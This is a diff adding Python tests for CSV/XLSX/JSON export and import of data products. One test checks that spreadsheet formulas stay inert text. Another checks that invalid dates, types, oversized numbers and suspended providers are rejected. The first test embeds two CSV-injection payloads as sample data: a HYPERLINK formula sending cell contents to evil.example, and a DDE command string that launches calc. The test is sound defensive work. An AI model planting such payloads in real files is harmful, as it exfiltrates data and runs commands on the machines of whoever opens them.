@@ -450,3 +450,57 @@ def test_the_json_export_is_a_list_of_objects_and_the_figures(
         figures = json.loads(exports.export(session, SYSTEM, settings, "stats", "json"))
     engine.dispose()
     assert figures["products"]["listed"] == sum(i["status"] == "listed" for i in items)
+
+
+def test_formulas_stay_text_in_exports_and_round_trip(
+    no_products: tuple[Settings, Engine], exported: dict[tuple[str, str], bytes]
+) -> None:
+    """An owner's title like =HYPERLINK(…) must not run in the spreadsheet of the officials who open
+    the export: XLSX writes it as a text cell, CSV marks it as text, and the import takes it back."""
+    settings, engine = no_products
+    header, rows = _products_csv(exported)
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    row = {**rows[0], "title": evil, "summary": "+cmd|' /C calc'!A0 用于测试的摘要", "listing_no": ""}
+    assert _import(engine, "one.csv", _csv(header, [row])).imported == 1
+    with Session(engine) as session:
+        again_exported = {
+            fmt: exports.export(session, SYSTEM, settings, "products", fmt) for fmt in ("csv", "xlsx")
+        }
+    text = again_exported["csv"].decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'+cmd" in text  # marked as text for spreadsheets
+    book = load_workbook(io.BytesIO(again_exported["xlsx"]))
+    sheet = book.worksheets[0]
+    titles = [c for c in sheet["C"] if c.value == evil]
+    assert titles and all(c.data_type == "s" for c in titles)  # a text cell, not a formula
+    with db.session_scope(engine) as session:
+        session.delete(session.exec(select(DataProduct).where(DataProduct.title == evil)).one())
+    again = _import(engine, "again.csv", again_exported["csv"])
+    assert again.imported == 1, [p.text() for p in again.problems]
+    with Session(engine) as session:
+        product = session.exec(select(DataProduct)).one()
+    assert product.title == evil and product.summary.startswith("+cmd")
+
+
+def test_rows_a_database_cannot_hold_or_that_name_a_suspended_provider_are_reported(
+    no_products: tuple[Settings, Engine], exported: dict[tuple[str, str], bytes]
+) -> None:
+    _, engine = no_products
+    header, rows = _products_csv(exported)
+    listed = next(r for r in rows if r["status"] == "listed")
+    ancient = {**listed, "listing_no": "", "listed_at": "0001-01-01"}
+    future = {**listed, "id": "from-the-future", "listing_no": "", "listed_at": "2099-06-01"}
+    report = _import(engine, "dates.csv", _csv(header, [ancient, future]))
+    assert report.imported == 0 and {p.line for p in report.problems} == {2, 3}
+    items = json.loads(exported["products", "json"])
+    odd = {**items[0], "provider": ["not", "text"], "listing_no": None}
+    report = _import(engine, "odd.json", json.dumps([odd], ensure_ascii=False).encode())
+    assert report.imported == 0 and any(p.column == "provider" for p in report.problems)
+    datasets = json.loads(exported["datasets", "json"])
+    huge = {**datasets[0], "code": "ZZ-HUGE-1", "record_count": 2**64}
+    report = _import(engine, "huge.json", json.dumps([huge], ensure_ascii=False).encode())
+    assert report.imported == 0 and any(p.column == "record_count" for p in report.problems)
+    with db.session_scope(engine) as session:
+        org = session.exec(select(Organization).where(Organization.slug == listed["provider"])).one()
+        org.suspended = True
+    report = _import(engine, "suspended.csv", _csv(header, [{**listed, "listing_no": ""}]))
+    assert report.imported == 0 and [p.column for p in report.problems] == ["provider"]
